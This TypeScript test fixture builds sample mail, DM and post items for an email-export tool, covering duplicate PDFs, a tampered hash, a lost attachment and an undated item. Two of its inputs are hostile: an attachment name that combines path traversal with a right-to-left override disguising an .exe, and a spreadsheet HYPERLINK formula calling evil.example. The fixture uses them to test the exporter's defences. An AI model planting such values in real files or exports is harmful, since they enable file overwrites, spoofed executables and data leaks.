import { createHash } from 'node:crypto';
import type { Attachment, Item } from '../../src/model/index.js';
import type { Store } from '../../src/store/index.js';
import { hexId, location, makeItem, person } from '../store/store-fixtures.js';

/** Hand-made items with real raw bytes, one of each case the exporter must handle. */

const sha = (b: Uint8Array | string): string => createHash('sha256').update(b).digest('hex');

export const PDF = Buffer.from('%PDF-1.4\n% innsyn export test\n%%EOF\n');
const PDF_SHA = sha(PDF);

function mail(subject: string, attachmentName: string | null, body = 'See attached.'): Buffer {
  const lines = [
    'From: Source <source@example.org>',
    'To: Reporter <reporter@example.org>',
    `Subject: ${subject}`,
    'Date: Wed, 12 Oct 2016 12:31:00 +0000',
    'MIME-Version: 1.0',
  ];
  if (attachmentName === null) return Buffer.from([...lines, '', body, ''].join('\r\n'));
  return Buffer.from(
    [
      ...lines,
      'Content-Type: multipart/mixed; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      '',
      body,
      '--b1',
      `Content-Type: application/pdf; name="${attachmentName}"`,
      `Content-Disposition: attachment; filename="${attachmentName}"`,
      'Content-Transfer-Encoding: base64',
      '',
      PDF.toString('base64'),
      '--b1--',
      '',
    ].join('\r\n'),
  );
}

const pdfAttachment = (name: string | null): Attachment => ({
  name,
  contentType: 'application/pdf',
  size: PDF.length,
  sha256: PDF_SHA,
  disposition: 'attachment',
  contentId: null,
  text: null,
});

/** Sets the first location's hash to the raw bytes', as ingest records it. */
function faithful(item: Item, raw: Uint8Array): { item: Item; raw: Uint8Array } {
  return { item: { ...item, location: { ...item.location, sha256: sha(raw) } }, raw };
}

export interface Fixture {
  all: Array<{ item: Item; raw: Uint8Array }>;
  ids: Record<string, string>;
}

export function exportFixture(): Fixture {
  const at = '2016-10-12T12:31:00.000Z';
  const entries = {
    // Two items at the same moment holding the same PDF. pdfFirst has the smaller id but is
    // written after pdfSecond: the store lists pdfSecond first, the export puts them by id.
    pdfFirst: faithful(
      makeItem({
        seed: 'b-mail',
        subject: 'Leak',
        sentAt: at,
        attachments: [pdfAttachment('../../evil\u202Efdp.exe')],
      }),
      mail('Leak', '../../evil\u202Efdp.exe'),
    ),
    pdfSecond: faithful(
      makeItem({ seed: 'a-mail', subject: 'Again', sentAt: at, attachments: [pdfAttachment('copy.pdf')] }),
      mail('Again', 'copy.pdf'),
    ),
    dm: faithful(
      makeItem({
        seed: 'dm',
        kind: 'message',
        platform: 'x',
        subject: null,
        sentAt: '2016-10-12T12:33:00.000Z',
        from: person('16589206', 'WikiLeaks', 'x'),
        to: [person('39344374', 'Donald Trump Jr.', 'x')],
        location: location('/cases/x-archive', 1020, 'data/direct-messages.js'),
        attachments: [
          { ...pdfAttachment('media.jpg'), sha256: sha('media only hashed'), contentType: 'image/jpeg' },
        ],
      }),
      Buffer.from('{\n  "messageCreate": { "id": "1", "text": "Hi" }\n}'),
    ),
    formulaPost: faithful(
      makeItem({
        seed: 'post',
        kind: 'post',
        platform: 'x',
        visibility: 'public',
        subject: '=HYPERLINK("http://evil.example/?leak")',
        sentAt: '2016-10-14T09:42:00.000Z',
        from: person('@realdonaldtrump', null, 'x'),
        to: [],
        location: location('/cases/posts.csv', 80),
      }),
      Buffer.from('2016-10-14 09:42,realDonaldTrump,"Wow, look"\r\n'),
    ),
    tampered: {
      ...faithful(
        makeItem({ seed: 'tampered', subject: 'Tampered', sentAt: '2016-11-01T00:00:00.000Z' }),
        mail('Tampered', null),
      ),
    },
    lostAttachment: faithful(
      makeItem({
        seed: 'lost',
        subject: 'Lost part',
        sentAt: '2016-11-02T00:00:00.000Z',
        attachments: [{ ...pdfAttachment('gone.pdf'), sha256: 'f'.repeat(64) }],
      }),
      mail('Lost part', null),
    ),
    undated: faithful(
      makeItem({ seed: 'undated', subject: 'No date', sentAt: null, dateSource: 'unknown' }),
      mail('No date', null),
    ),
  };
  // The hash recorded at ingest no longer matches the stored bytes.
  entries.tampered.item = {
    ...entries.tampered.item,
    location: { ...entries.tampered.item.location, sha256: 'e'.repeat(64) },
  };
  const ids = Object.fromEntries(Object.entries(entries).map(([k, v]) => [k, v.item.id]));
  // Written in an order unlike the export's, so that the export's order is its own.
  const order = [
    'undated',
    'pdfSecond',
    'formulaPost',
    'pdfFirst',
    'tampered',
    'dm',
    'lostAttachment',
  ] as const;
  return { all: order.map((k) => entries[k]), ids };
}

export async function writeFixture(store: Store, fixture: Fixture): Promise<void> {
  await store.writeBatch({ items: fixture.all, quarantine: [] });
}

export { hexId };
